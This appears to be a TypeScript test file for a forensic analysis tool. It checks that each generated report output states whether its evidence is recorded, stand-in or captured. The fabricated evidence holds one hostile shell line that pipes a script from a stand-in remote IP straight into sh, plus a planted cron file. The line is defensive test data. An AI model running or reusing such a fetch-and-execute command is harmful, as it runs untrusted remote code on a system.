import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeAnalysis } from '../../../../bin/analyse-outputs';
import { analyse } from '../../../../core/analysis/analyse';
import { evidenceOf } from '../../../../core/analysis/evidence-in-memory';
import { originNote } from '../../../../core/analysis/origin';
import type { Summary } from '../../../../core/analysis/summary-schema';
import { spillInMemory } from '../../../support/spill-in-memory';
import { diskOf, memoryOf, NOW } from '../detect/made-evidence';

const OUTPUTS = [
  'summary.json',
  'summary.md',
  'slack.json',
  'report.html',
  'timeline.jsonl',
  'iocs.stix.json',
] as const;

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'cordon-origin-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** What each output shows of itself before anything else: a person's words, without markup. */
async function heads(origin: Summary['origin']): Promise<readonly (readonly [string, string])[]> {
  const typed = [['2026-05-28T20:26:50+00:00', 'curl http://198.51.100.9/a | sh']] as const;
  const source = evidenceOf({
    ...diskOf({ path: '/etc/cron.d/x', born: NOW + 9 }),
    ...memoryOf([{ pid: 3000, ppid: 1, comm: 'bash', args: '-bash', exe: '/usr/bin/bash', typed }]),
  });
  const analysis = await analyse(source, { origin, now: () => new Date(0) });
  await writeAnalysis(analysis, source, folder, spillInMemory());
  return OUTPUTS.map((name) => {
    const text = readFileSync(join(folder, name), 'utf8').replace(/<style>[\s\S]*?<\/style>/, '');
    return [name, text.slice(0, 1400)] as const;
  });
}

test.each(['recorded', 'stand-in'] as const)('every output of %s evidence says so at its top', async (origin) => {
  for (const [name, head] of await heads(origin))
    expect([name, head]).toEqual([name, expect.stringContaining(originNote(origin))]);
  const lines = readFileSync(join(folder, 'timeline.jsonl'), 'utf8').trim().split('\n');
  expect(
    lines.map((line) => JSON.parse(line).message).filter((message) => message === originNote(origin)),
  ).toHaveLength(1);
  expect(JSON.parse(lines[0] ?? '').message).toBe(originNote(origin));
});

test('no output of the machine’s own evidence speaks of another machine', async () => {
  for (const [name, head] of await heads('captured'))
    expect([name, head]).toEqual([name, expect.not.stringMatching(/another machine|stand-in/)]);
});
